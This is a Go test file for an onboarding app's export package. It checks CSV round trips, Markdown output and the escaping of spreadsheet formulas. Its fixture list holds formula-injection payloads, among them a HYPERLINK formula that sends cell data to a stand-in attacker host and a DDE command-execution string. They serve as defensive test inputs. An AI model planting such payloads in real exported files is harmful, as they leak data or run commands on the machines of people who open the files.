package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"solemate/model"
	"solemate/model/demo"
	"solemate/model/export"
	"solemate/model/roster"
	"solemate/model/storetest"
)

func TestExportPeopleCSVRoundTrips(t *testing.T) {
	src := storetest.New(t)
	storetest.FillDemo(t, src, demo.Options{People: 25, Seed: 1})
	var out bytes.Buffer
	if err := export.People(src, &out, export.FormatCSV); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out.String(), strings.Join(export.RosterColumns, ",")+"\r\n") {
		t.Fatalf("header = %q", strings.SplitN(out.String(), "\n", 2)[0])
	}
	dst := storetest.New(t)
	res, err := roster.Import(dst, bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if res.Added != 25 {
		t.Errorf("re-import added %d, want 25", res.Added)
	}
	a, _ := src.People(false)
	b, _ := dst.People(false)
	for i := range a {
		x, y := a[i], b[i]
		if x.Name != y.Name || x.PreferredName != y.PreferredName || x.Email != y.Email || x.Role != y.Role ||
			x.Team != y.Team || x.StartDate != y.StartDate || x.Status != y.Status || x.ManagerName != y.ManagerName {
			t.Errorf("row %d differs after round trip:\n%+v\n%+v", i, x, y)
		}
	}
}

func TestExportKeepsArchivedManagers(t *testing.T) {
	s := storetest.New(t)
	boss := model.Person{Name: "Boss", Email: "boss@example.com"}
	if err := s.SavePerson(&boss); err != nil {
		t.Fatal(err)
	}
	if err := s.SavePerson(&model.Person{Name: "Report", Email: "r@example.com", ManagerID: &boss.ID}); err != nil {
		t.Fatal(err)
	}
	if err := s.ArchivePerson(boss.ID); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := export.People(s, &out, export.FormatCSV); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "Report,,r@example.com,agent,,,boss@example.com,active") {
		t.Errorf("the archived manager's email went missing:\n%s", out.String())
	}
}

func TestExportPeopleMarkdown(t *testing.T) {
	s := storetest.New(t)
	lead := model.Person{Name: "Amara *Star* Okafor", Email: "amara@example.com", Team: "Phone North", Role: model.RoleTeamLead, StartDate: model.NewDate(2021, 3, 1)}
	if err := s.SavePerson(&lead); err != nil {
		t.Fatal(err)
	}
	for _, p := range []model.Person{
		{Name: "Ben Lindqvist", PreferredName: "Ben", Team: "Phone North", ManagerID: &lead.ID, Status: model.StatusLeft},
		{Name: "Zed Nobody"},
	} {
		if err := s.SavePerson(&p); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if err := export.People(s, &out, export.FormatMarkdown); err != nil {
		t.Fatal(err)
	}
	want := `# People

## Phone North

- **Amara \*Star\* Okafor** — Team lead, amara@example.com, since 2021-03-01
- **Ben Lindqvist** — Agent, left, reports to Amara \*Star\* Okafor

## No team

- **Zed Nobody** — Agent
`
	if out.String() != want {
		t.Errorf("markdown:\n%s\nwant:\n%s", out.String(), want)
	}
}

func TestExportUnknownFormat(t *testing.T) {
	s := storetest.New(t)
	if err := export.People(s, &bytes.Buffer{}, "pdf"); err == nil || !strings.Contains(err.Error(), "pdf") {
		t.Errorf("err = %v", err)
	}
}

// formulas are cells a spreadsheet would run, as an attacker types them.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Open")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, "\t=1+1", "\r\n=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", `'=already guarded`,
}

// TestCSVExportsNeutraliseFormulas: no CSV the app writes holds a cell a
// spreadsheet would run as a formula, whatever was typed; and the roster
// reads back exactly what it wrote.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	s := storetest.New(t)
	single := slices.DeleteFunc(slices.Clone(formulas), func(f string) bool { return strings.ContainsAny(f, "\t\r\n") })
	var people []model.Person
	for i, f := range single {
		p := model.Person{Name: f, PreferredName: f, Team: f, Email: fmt.Sprintf("p%d@example.com", i)}
		if i > 0 {
			p.ManagerID = &people[0].ID
		}
		if err := s.SavePerson(&p); err != nil {
			t.Fatal(err)
		}
		people = append(people, p)
	}
	o := storetest.Start(t, s, people[1].ID, storetest.FixedNow.Add(-time.Hour))
	for _, f := range single {
		if _, err := s.AddItem(o.ID, model.HeadingProgress, f, false); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range formulas {
		sess := model.Session{PersonID: people[1].ID, Channel: model.ChannelChat, Date: model.NewDate(2026, 3, 2), Journey: single[0], Worked: f, Ideas: f}
		if err := s.SaveSession(&sess, single); err != nil {
			t.Fatal(err)
		}
	}
	c, err := s.CreateCohort(model.NewCohort{Name: single[0], ProgramID: storetest.DefaultProgramID(t, s), Start: model.NewDate(2026, 3, 2), HireIDs: []uint{people[2].ID}})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := s.CohortBoard(c.ID)
	if err := s.SetCompletion(b.Rows[0].ID, b.Rows[0].Phases[0].Milestones[0].ID, true, model.NewDate(2026, 3, 5), &people[3].ID, formulas[4]); err != nil {
		t.Fatal(err)
	}
	exports := []struct {
		name  string
		write func(w io.Writer) error
	}{
		{"people", func(w io.Writer) error { return export.People(s, w, export.FormatCSV) }},
		{"one-on-ones", func(w io.Writer) error {
			return export.OneOnOnes(s, w, export.OneOnOneOptions{Format: export.FormatCSV})
		}},
		{"shadowing", func(w io.Writer) error {
			return export.Shadowing(s, w, export.ShadowingOptions{Format: export.FormatCSV})
		}},
		{"cohort", func(w io.Writer) error { return export.Cohort(s, w, single[0], export.FormatCSV) }},
	}
	for _, e := range exports {
		t.Run(e.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := e.write(&out); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&out).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			guarded := 0
			for _, rec := range recs[1:] {
				for _, cell := range rec {
					if r, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r＝＋－＠", r) {
						t.Errorf("a spreadsheet would run %q", cell)
					}
					if strings.HasPrefix(cell, "'") {
						guarded++
					}
				}
			}
			if guarded == 0 {
				t.Error("nothing was guarded")
			}
		})
	}
	var out bytes.Buffer
	if err := export.People(s, &out, export.FormatCSV); err != nil {
		t.Fatal(err)
	}
	dst := storetest.New(t)
	if _, err := roster.Import(dst, &out); err != nil {
		t.Fatal(err)
	}
	for _, want := range people {
		got := storetest.PersonByEmail(t, dst, want.Email)
		if got.Name != want.Name || got.PreferredName != want.PreferredName || got.Team != want.Team {
			t.Errorf("after export and import: %q, %q, %q; want %q", got.Name, got.PreferredName, got.Team, want.Name)
		}
	}
}
